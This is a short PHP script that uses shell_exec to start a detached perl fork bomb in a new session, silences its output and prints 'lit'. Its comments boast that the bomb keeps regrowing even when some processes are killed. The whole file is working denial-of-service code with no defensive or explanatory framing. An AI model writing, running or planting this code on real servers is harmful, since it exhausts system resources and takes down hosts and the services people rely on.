<?php
// Ended processes are replaced by others in a separate session without parents. The bomb ignores refusals and never
// rests: if some of its processes are reaped while others live, it grows back.
shell_exec('setsid perl -e \'for (;;) { fork }\' > /dev/null 2>&1 &');
echo 'lit';
